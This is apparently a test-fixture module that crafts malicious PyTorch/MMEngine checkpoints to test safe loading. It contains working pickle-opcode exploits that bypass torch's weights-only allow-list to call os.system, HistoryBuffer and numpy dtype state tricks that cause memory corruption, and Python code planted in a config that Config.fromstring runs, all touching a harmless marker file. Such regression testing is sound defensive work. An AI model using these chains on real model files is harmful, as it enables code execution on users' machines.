"""Checkpoints crafted as an attacker would, for the safe-loading tests.

Each payload is a run of pickle opcodes put in front of a genuine
checkpoint's pickle (:func:`save_with_payload`), so a loader that lets the
payload through still returns the real checkpoint and nothing looks wrong.
They use only what torch's weights-only unpickler executes (GLOBAL, REDUCE,
NEWOBJ, BUILD, SETITEM, memo), i.e. they target loaders that allow-list
``builtins.getattr``, ``HistoryBuffer`` and numpy's globals as they are.
"""
import pickle
import struct
import types

import numpy as np

# pickle opcodes (protocol 2)
EMPTY_TUPLE, EMPTY_LIST, APPEND = b')', b']', b'a'
TUPLE1, TUPLE2, REDUCE, BUILD = b'\x85', b'\x86', b'R', b'b'
NEWOBJ, SETITEM = b'\x81', b's'

#: memo slots far above what a genuine checkpoint uses
_SLOT = 900_000


def _global(module: str, name: str) -> bytes:
    return b'c' + module.encode() + b'\n' + name.encode() + b'\n'


def _text(value: str) -> bytes:
    data = value.encode()
    return b'X' + struct.pack('<I', len(data)) + data


def _put(slot: int) -> bytes:
    return b'r' + struct.pack('<I', _SLOT + slot)


def _get(slot: int) -> bytes:
    return b'j' + struct.pack('<I', _SLOT + slot)


def _object(value) -> bytes:
    """The opcodes that push ``value`` (pickle's own, without PROTO/STOP)."""
    return pickle.dumps(value, protocol=2)[2:-1]


def _getattr(obj: bytes, name: str) -> bytes:
    return _global('builtins', 'getattr') + obj + _text(name) + TUPLE2 + \
        REDUCE


def getattr_module_dict(marker: str) -> bytes:
    """``getattr`` to torch's allow-list set, swapped for ``{os.system}``.

    ``getattr(_rebuild_tensor, '__globals__')`` is a module dict; a Counter
    whose ``__dict__`` is updated from it (BUILD) turns its items into
    attributes; from ``torch`` the payload reaches
    ``torch.serialization._weights_only_unpickler.__dict__``, a plain dict
    that SETITEM may write, replaces ``_marked_safe_globals_set`` by a set
    holding ``os.system``, calls it, and puts the original set back.
    """
    return b''.join([
        _getattr(_global('torch._utils', '_rebuild_tensor'), '__globals__'),
        _put(0),
        _global('collections', 'Counter'), EMPTY_TUPLE, REDUCE,
        _get(0), BUILD,
        _put(1),
        _getattr(_get(1), 'torch'), _put(2),
        _getattr(_getattr(_get(2), 'serialization'),
                 '_weights_only_unpickler'), _put(3),
        _getattr(_get(3), '__dict__'), _put(4),
        _getattr(_get(3), '_marked_safe_globals_set'), _put(5),
        _getattr(_getattr(_get(2), 'os'), 'system'), _put(6),
        _global('builtins', 'set'), EMPTY_LIST, _get(6), APPEND, TUPLE1,
        REDUCE, _put(7),
        _get(4), _text('_marked_safe_globals_set'), _get(7), SETITEM,
        _get(6), _text(f'touch {marker}'), TUPLE1, REDUCE,
        _get(4), _text('_marked_safe_globals_set'), _get(5), SETITEM,
    ])


def _history_buffer(state: dict) -> bytes:
    """A HistoryBuffer recreated the way pickle does (NEWOBJ + BUILD)."""
    return _global('mmengine.logging.history_buffer', 'HistoryBuffer') + \
        EMPTY_TUPLE + NEWOBJ + _object(state) + BUILD


def _buffer_state(**extra) -> dict:
    return dict(max_length=10, _log_history=np.zeros(1),
                _count_history=np.ones(1, dtype=np.int64), **extra)


def history_buffer_methods(marker: str) -> bytes:
    """``statistics_methods`` that MMEngine's ``__setstate__`` writes into
    the class-level table of every HistoryBuffer (``buf.mean()`` would call
    ``set``)."""
    return _history_buffer(_buffer_state(statistics_methods={'mean': set}))


def history_buffer_instance_state(marker: str) -> bytes:
    """Instance state MMEngine's ``__setstate__`` copies as it is: a
    ``__reduce_ex__`` for ``copy.deepcopy`` and an ``__array_interface__``
    pointing at an address the file chose."""
    return _history_buffer(_buffer_state(
        __reduce_ex__=set,
        __array_interface__=dict(data=(0xdeadbeef, False), shape=(1, ),
                                 typestr='<f8', version=3)))


def history_buffer_call(marker: str) -> bytes:
    """``HistoryBuffer(log_history, count_history)``: its ``__init__`` runs
    ``np.array`` on objects from the file."""
    return _global('mmengine.logging.history_buffer', 'HistoryBuffer') + \
        _object(([1.0], [1])) + REDUCE


def object_dtype_overlap(marker: str) -> bytes:
    """A structured dtype whose object field overlaps an int64 field (the
    dtype constructor refuses it, ``__setstate__`` does not): freeing an
    array of it dereferences the integer as a pointer."""
    state = (3, '|', None, ('a', 'b'),
             {'a': (np.dtype('O'), 0), 'b': (np.dtype('<i8'), 0)}, 8, 8, 63)
    return _global('numpy', 'dtype') + _object(('V8', False, True)) + \
        REDUCE + _object(state) + BUILD


def numeric_dtype_flags(marker: str) -> bytes:
    """A float64 dtype whose state sets the has-object flags."""
    return _global('numpy', 'dtype') + _object(('f8', False, True)) + \
        REDUCE + _object((3, '<', None, None, None, -1, -1, 63)) + BUILD


PAYLOADS = {
    f.__name__: f
    for f in (getattr_module_dict, history_buffer_methods,
              history_buffer_instance_state, history_buffer_call,
              object_dtype_overlap, numeric_dtype_flags)
}

CONFIG_WITH_CODE = "status = __import__('os').system('touch {marker}')\n"


def _pickle_module_with(prefix: bytes):
    """A ``pickle_module`` for ``torch.save`` whose pickles start with
    ``prefix`` (after the protocol opcode)."""

    class Pickler(pickle.Pickler):

        def __init__(self, file, *args, **kwargs):
            super().__init__(file, *args, **kwargs)
            self._out = file

        def dump(self, obj):
            self._out.write(b'\x80\x02' + prefix)
            super().dump(obj)

    return types.SimpleNamespace(__name__='pickle', Pickler=Pickler,
                                 Unpickler=pickle.Unpickler,
                                 load=pickle.load)


def save_with_payload(checkpoint, path: str, payload: str,
                      marker: str) -> str:
    """``torch.save(checkpoint)`` with the named payload spliced in front.
    """
    import torch
    prefix = PAYLOADS[payload](marker)
    torch.save(checkpoint, path, pickle_module=_pickle_module_with(prefix))
    return path


def save_with_config_code(checkpoint: dict, path: str, marker: str) -> str:
    """A checkpoint whose ``meta['config']`` is Python that touches
    ``marker`` (what MMEngine's resume passes to ``Config.fromstring``)."""
    import copy

    import torch
    checkpoint = copy.copy(checkpoint)
    checkpoint['meta'] = dict(checkpoint.get('meta') or {},
                              config=CONFIG_WITH_CODE.format(marker=marker))
    torch.save(checkpoint, path)
    return path
